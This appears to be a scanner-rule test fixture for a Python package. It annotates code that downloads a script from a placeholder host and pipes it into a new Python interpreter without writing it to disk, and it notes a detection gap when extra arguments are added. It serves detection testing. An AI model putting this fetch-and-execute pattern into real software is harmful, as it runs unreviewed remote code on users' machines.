# canary-test: path=mypkg/runner.py artifact=wheel
# Fetched code piped into a fresh interpreter on stdin, never written to disk.
import subprocess
import sys
import urllib.request


def run():
    # ruleid: INLINE_PYTHON_WITH_NETWORK
    code = urllib.request.urlopen("https://example.invalid/c.py", timeout=5).read()
    # ruleid: INLINE_PYTHON_WITH_NETWORK
    child = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    child.communicate(code)


def run_with_args():
    # Known gap: the set matches only the two-element list [sys.executable, "-"].
    # todoruleid: INLINE_PYTHON_WITH_NETWORK
    child = subprocess.Popen([sys.executable, "-", "--quiet"], stdin=subprocess.PIPE)
    child.communicate(b"print('inert')")
